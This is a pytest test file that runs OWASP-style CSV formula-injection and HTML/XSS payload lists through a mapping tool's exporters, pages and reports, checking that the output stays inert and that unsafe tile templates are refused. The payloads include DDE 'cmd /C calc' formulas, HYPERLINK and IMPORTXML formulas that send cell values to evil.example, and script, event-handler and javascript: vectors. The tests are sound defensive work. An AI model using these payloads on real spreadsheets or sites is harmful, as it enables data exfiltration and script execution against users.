"""OWASP's lists of CSV and HTML injection, through a set, every exporter and page: text stays text."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest

from geomap.errors import UsageError
from geomap.exporters import EXPORTERS, exporter
from geomap.exporters.page.assembly import page
from geomap.exporters.tables.csv_tables import FORMULA_STARTS
from geomap.layers import make_all
from geomap.models.assessed import Assessment
from geomap.models.sets import tile_host
from geomap.pipeline.building import build_set
from geomap.pipeline.reporting import make_report
from geomap.readers.sets import open_set

CSV_INJECTION = [
    "=1+2",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"Error")',
    '=IMPORTXML(CONCAT("https://evil.example?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"a")',
    "\uff1d1+2",
    "\uff0bcmd",
    "\uff20SUM(1)",
]
HTML_INJECTION = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt >alert(1)</ScRiPt>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<style>@import'https://evil.example'</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example>",
    "<object data=https://evil.example>",
    "<embed src=https://evil.example>",
    "<form action=https://evil.example><input type=submit>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "`${alert(1)}`",
    "{{constructor.constructor('alert(1)')()}}",
    "{% import os %}{{ 7*7 }}",
    "<%= 7*7 %>",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "]]><script>alert(1)</script>",
    "\u2028alert(1)\u2029",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
]
LIST = [*CSV_INJECTION, *HTML_INJECTION]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Assessment:
    """A set whose titles, sources, addresses and texts are the lists."""
    folder = tmp_path_factory.mktemp("set")
    for number, text in enumerate(LIST):
        row = {"title": text, "source": text, "url": text, "date": "2024-11-30"}
        told = f"Rebels captured Saraqib on Friday, {text} said. Shelling killed {number + 2} in Idlib."
        words = f"{text}\n\n{told} {text}"
        (folder / f"a{number:02}.jsonl").write_text(json.dumps({**row, "text": words}))
    (folder / "set.toml").write_text(
        f'profile = "syria"\ntitle = {json.dumps(LIST[13])}\ndescription = {json.dumps(LIST[14])}\n'
    )
    return build_set(open_set(folder))


class Elements(HTMLParser):
    """Elements of a page as a browser would see them."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.all: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note the element."""
        self.all.append((tag, dict(attrs)))


def assert_inert(text: str, plain: str) -> None:
    """A page has the elements of the same page without the lists, no handlers and no foreign addresses."""
    seen, usual = Elements(text).all, Elements(plain).all
    assert {tag for tag, _ in seen} <= {tag for tag, _ in usual}
    for tag in ("script", "style", "link", "meta", "iframe", "object", "embed", "form", "base", "input"):
        assert sum(t == tag for t, _ in seen) == sum(t == tag for t, _ in usual), tag
    for tag, attributes in seen:
        assert not [name for name in attributes if name.startswith("on")], (tag, attributes)
        for name in ("href", "src", "action", "data", "xlink:href"):
            value = (attributes.get(name) or "").strip().lower()
            assert not value.startswith(("javascript:", "vbscript:", "jav\t")), (tag, value)
            assert "evil.example" not in value, (tag, value)


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory) -> Assessment:
    """The same set with words in the place of the lists."""
    folder = tmp_path_factory.mktemp("plain")
    for number in range(len(LIST)):
        row = {"title": "T", "source": f"Wire {number}", "url": "https://example.org/1", "date": "2024-11-30"}
        words = f"Rebels captured Saraqib on Friday, it said. Shelling killed {number + 2} in Idlib. Done."
        (folder / f"a{number:02}.jsonl").write_text(json.dumps({**row, "text": words}))
    (folder / "set.toml").write_text('profile = "syria"\ntitle = "T"\ndescription = "D"\n')
    return build_set(open_set(folder))


def test_the_page_is_inert(hostile: Assessment, plain: Assessment) -> None:
    """No text of a set becomes an element, a handler or an address of the page."""
    assert_inert(page(hostile, make_all(hostile))[0], page(plain, make_all(plain))[0])


def test_the_report_is_inert(hostile: Assessment, plain: Assessment) -> None:
    """Nor of the report."""
    assert_inert(make_report(hostile), make_report(plain))


@pytest.mark.parametrize("name", EXPORTERS)
def test_exported_text_is_data(name: str, hostile: Assessment, tmp_path: Path) -> None:
    """No cell begins as a formula, markup is escaped, and everything is still what the format says."""
    for path in exporter(name)(make_all(hostile), tmp_path, hxl=True):
        data = path.read_bytes()
        if path.suffix in (".kml", ".qgs", ".xml"):
            ET.fromstring(data)
        elif path.suffix == ".csv":
            cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
            assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]
        elif path.suffix in (".geojson", ".json"):
            json.loads(data)
        elif path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as book:
                sheets = [book.read(entry) for entry in book.namelist() if "worksheets/" in entry]
            assert sheets and not any(b"<f>" in sheet or b"<hyperlink" in sheet for sheet in sheets)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    "tiles",
    [
        "https://host: *;connect-src */{z}/{x}/{y}",
        "https://host;script-src 'unsafe-inline'/{z}/{x}/{y}",
        "https://user:pass@host/{z}/{x}/{y}",
        "https://user@host/{z}/{x}/{y}",
        "https://host:99999/{z}/{x}/{y}",
        "https://host:x/{z}/{x}/{y}",
        "https://*/{z}/{x}/{y}",
        "https://h\u00f6st/{z}/{x}/{y}",
        "https://host'/{z}/{x}/{y}",
        "https://[::1/{z}/{x}/{y}",
        "https://-host/{z}/{x}/{y}",
        "https:///{z}/{x}/{y}",
        "javascript://host/{z}/{x}/{y}",
        "http://host/{z}/{x}/{y}",
        "https://host/tiles",
    ],
)
def test_only_a_host_enters_the_policy(tiles: str) -> None:
    """A tile template with more than a plain host and port is refused."""
    with pytest.raises(UsageError, match="give an https template"):
        tile_host(tiles)


def test_scheme_host_and_port_pass() -> None:
    """A plain template gives its origin, whatever stands behind it."""
    assert (
        tile_host("https://t.example.org:8443/{z}/{x}/{y}.png?k=;script-src *")
        == "https://t.example.org:8443"
    )
    assert tile_host("https://T.example.org/{z}/{x}/{y}") == "https://t.example.org"


def test_tables_of_control_are_no_formulas(tmp_path: Path) -> None:
    """Names of one's own tables do not become formulas in what is written of them."""
    import pandas as pd

    from geomap.cli.control import write_rows

    table = pd.DataFrame({"name": LIST, "claim_ids": [[text] for text in LIST]})
    write_rows(table, tmp_path / "x.csv")
    cells: list[Any] = [c for row in csv.reader((tmp_path / "x.csv").open(newline="")) for c in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
